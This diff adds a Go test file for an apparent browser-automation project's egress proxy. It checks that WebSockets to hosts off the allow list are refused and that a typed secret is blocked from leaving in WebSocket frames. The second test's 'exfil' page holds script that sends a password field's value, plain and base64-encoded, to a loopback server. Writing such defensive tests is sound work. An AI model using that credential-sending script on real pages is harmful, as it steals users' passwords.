@@ -1,0 +1,171 @@
+package test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/coder/websocket"
+
+	"github.com/durable-browser/durable-browser/contract"
+	"github.com/durable-browser/durable-browser/internal/redact"
+	"github.com/durable-browser/durable-browser/test/harness"
+	"github.com/durable-browser/durable-browser/workflows"
+)
+
+// wsCounter is a loopback WebSocket server that counts the connections it
+// accepts, by the Host the page asked for, and keeps the messages it got.
+type wsCounter struct {
+	srv   *httptest.Server
+	mu    sync.Mutex
+	hosts map[string]int
+	msgs  []string
+}
+
+func newWSCounter(t *testing.T) *wsCounter {
+	w := &wsCounter{hosts: map[string]int{}}
+	w.srv = httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		host := strings.Split(r.Host, ":")[0]
+		c, err := websocket.Accept(rw, r, &websocket.AcceptOptions{InsecureSkipVerify: true})
+		if err != nil {
+			return
+		}
+		w.mu.Lock()
+		w.hosts[host]++
+		w.mu.Unlock()
+		defer c.CloseNow()
+		for {
+			_, b, err := c.Read(context.Background())
+			if err != nil {
+				return
+			}
+			w.mu.Lock()
+			w.msgs = append(w.msgs, string(b))
+			w.mu.Unlock()
+		}
+	}))
+	t.Cleanup(w.srv.Close)
+	return w
+}
+
+func (w *wsCounter) port() string { return w.srv.URL[strings.LastIndex(w.srv.URL, ":")+1:] }
+
+func (w *wsCounter) seen() (map[string]int, []string) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	h := map[string]int{}
+	for k, v := range w.hosts {
+		h[k] = v
+	}
+	return h, append([]string(nil), w.msgs...)
+}
+
+// pageServer serves one HTML page on 127.0.0.1.
+func pageServer(t *testing.T, html string) string {
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, html)
+	}))
+	t.Cleanup(s.Close)
+	return s.URL
+}
+
+// A page opening a WebSocket to a host its session's allow_hosts refuses
+// is stopped at the worker's egress proxy: the server never sees the
+// connection, while one to an allowed host goes through.
+func TestEgressRefusesWebSocketOffAllowList(t *testing.T) {
+	ws := newWSCounter(t)
+	page := pageServer(t, `<!doctype html><title>ws</title><body><p id=s>start</p><script>
+const s = document.getElementById('s');
+function open(name, url) {
+  const w = new WebSocket(url);
+  w.onopen = () => { s.textContent += ' ' + name + ':open'; w.send(name); };
+  w.onerror = () => { s.textContent += ' ' + name + ':error'; };
+}
+open('off', 'ws://localhost:`+ws.port()+`/off');
+open('on', 'ws://127.0.0.1:`+ws.port()+`/on');
+</script>`)
+	env.StartWorker(t, harness.WorkerOptions{})
+	s := newSession(t, workflows.SessionConfig{Session: contract.SessionOptions{AllowHosts: []string{"127.0.0.1"}}})
+	var res contract.RunResult
+	s.must("run", actions(
+		map[string]any{"op": "goto", "url": page + "/"},
+		map[string]any{"op": "wait", "text": "off:error"},
+		map[string]any{"op": "wait", "text": "on:open"},
+	), &res)
+	hosts, _ := ws.seen()
+	if hosts["localhost"] != 0 {
+		t.Fatalf("the WebSocket to localhost (not on allow_hosts) reached the server %d times", hosts["localhost"])
+	}
+	if hosts["127.0.0.1"] != 1 {
+		t.Fatalf("the WebSocket to 127.0.0.1 (on allow_hosts) should connect once; hosts seen: %v", hosts)
+	}
+	found := false
+	for _, b := range res.Blocked {
+		found = found || (b.Rule == "allow_list" && b.Method == "CONNECT" && b.Origin == "localhost:"+ws.port())
+	}
+	if !found {
+		t.Fatalf("the refused WebSocket is not listed as blocked by allow_list: %+v", res.Blocked)
+	}
+	s.must("browser_release", map[string]any{}, nil)
+}
+
+// Once a secret was typed, a WebSocket frame carrying it toward an origin
+// the secret is not bound to is stopped before it leaves; frames without
+// it go on.
+func TestEgressBlocksSecretOverWebSocket(t *testing.T) {
+	const secret = "ws-Secret-Value-77421-xyzzy"
+	ws := newWSCounter(t)
+	page := pageServer(t, `<!doctype html><title>exfil</title><body>
+<label>Password <input type=password id=pw></label>
+<button id=go>Send</button><p id=s>start</p><script>
+const s = document.getElementById('s');
+const w = new WebSocket('ws://localhost:`+ws.port()+`/x');
+w.onopen = () => { w.send('hello'); s.textContent += ' open'; };
+w.onclose = () => { s.textContent += ' closed'; };
+document.getElementById('go').onclick = () => {
+  w.send('pw=' + document.getElementById('pw').value);
+  w.send(btoa(document.getElementById('pw').value));
+  s.textContent += ' sent';
+};
+</script>`)
+	t.Setenv("DURABLE_BROWSER_SECRET_WS_PW", secret)
+	t.Setenv("DURABLE_BROWSER_SECRET_WS_PW_ORIGINS", redact.OriginOf(page))
+	env.StartWorker(t, harness.WorkerOptions{})
+	s := newSession(t, workflows.SessionConfig{})
+	s.must("run", actions(
+		map[string]any{"op": "goto", "url": page + "/"},
+		map[string]any{"op": "wait", "text": "open"},
+	), nil)
+	var snap contract.SnapshotResult
+	s.must("snapshot", map[string]any{"mode": "interactive"}, &snap)
+	var res contract.RunResult
+	s.must("run", actions(
+		map[string]any{"op": "fill", "id": refFor(t, snap.Text, `textbox "Password"`), "value": "{{secret:WS_PW}}"},
+		map[string]any{"op": "click", "id": refFor(t, snap.Text, `button "Send"`)},
+		map[string]any{"op": "wait", "text": "closed"},
+	), &res)
+	hosts, msgs := ws.seen()
+	if hosts["localhost"] != 1 || len(msgs) == 0 || msgs[0] != "hello" {
+		t.Fatalf("the WebSocket should have opened and carried its first frame: hosts %v, %d messages", hosts, len(msgs))
+	}
+	for _, m := range msgs {
+		if strings.Contains(m, secret) || strings.Contains(m, "pw=") {
+			t.Fatalf("the server received a frame carrying the secret (%d bytes)", len(m))
+		}
+	}
+	found := false
+	for _, b := range res.Blocked {
+		found = found || (b.Rule == "secret" && b.Secret == "WS_PW" && b.Method == "WS")
+	}
+	if !found {
+		raw, _ := json.Marshal(res.Blocked)
+		t.Fatalf("the frame is not listed as blocked by rule secret: %s", raw)
+	}
+	s.must("browser_release", map[string]any{}, nil)
+}
